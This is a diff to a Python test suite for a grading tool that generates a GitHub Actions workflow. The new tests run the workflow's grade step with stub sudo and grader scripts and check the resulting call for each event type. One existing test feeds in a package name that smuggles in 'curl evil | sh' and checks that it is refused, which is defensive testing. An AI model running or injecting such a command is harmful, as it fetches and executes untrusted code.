@@ -10,6 +10,7 @@ from pathlib import Path
 
 import nbformat
 import pytest
+import yaml
 
 import grader
 from grader.bank import Bank, load_bank
@@ -116,3 +117,49 @@ def test_actionlint_would_catch_a_broken_workflow(material: Path, tmp_path: Path
 def test_a_grader_package_that_cannot_be_quoted_is_refused() -> None:
     with pytest.raises(GraderError, match="pip requirement"):
         workflow_yaml('tf-grader"; curl evil | sh; "')
+
+
+def grade_step(material: Path) -> str:
+    workflow = yaml.safe_load((material / ".github" / "workflows" / "autograde.yml").read_text())
+    [step] = [s for s in workflow["jobs"]["grade"]["steps"] if s.get("id") == "grader"]
+    return str(step["run"])
+
+
+@pytest.mark.parametrize(
+    ("event", "bank", "expected"),
+    [
+        ("pull_request", False, "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK="),
+        ("push", False, "ci --junit {temp}/grader-junit.xml --lang ko --all|GRADER_BANK="),
+        (
+            "pull_request",
+            True,
+            "ci --junit {temp}/grader-junit.xml --lang ko|GRADER_BANK={workspace}/.grader-bank",
+        ),
+    ],
+)
+def test_the_grade_step_runs_grader_ci_as_the_event_needs(
+    material: Path, tmp_path: Path, event: str, bank: bool, expected: str
+) -> None:
+    """The step's shell, run with stand-ins for sudo and the grader that record their call."""
+    workspace, temp, bin_dir = tmp_path / "workspace", tmp_path / "temp", tmp_path / "bin"
+    for folder in (workspace, temp / "grader" / "bin", bin_dir):
+        folder.mkdir(parents=True)
+    if bank:
+        (workspace / ".grader-bank" / "exercises").mkdir(parents=True)
+    (bin_dir / "sudo").write_text('#!/bin/sh\nshift\nexec "$@"\n')
+    (temp / "grader" / "bin" / "grader").write_text(
+        '#!/bin/sh\necho "$*|GRADER_BANK=$GRADER_BANK" > "$RUNNER_TEMP/called"\n'
+    )
+    for script in (bin_dir / "sudo", temp / "grader" / "bin" / "grader"):
+        script.chmod(0o755)
+    environment = {
+        "PATH": f"{bin_dir}:/usr/bin:/bin",
+        "RUNNER_TEMP": str(temp),
+        "GITHUB_WORKSPACE": str(workspace),
+        "GITHUB_EVENT_NAME": event,
+    }
+    subprocess.run(
+        ["bash", "-e", "-c", grade_step(material)], cwd=workspace, env=environment, check=True
+    )
+    called = (temp / "called").read_text().strip()
+    assert called == expected.format(temp=temp, workspace=workspace)
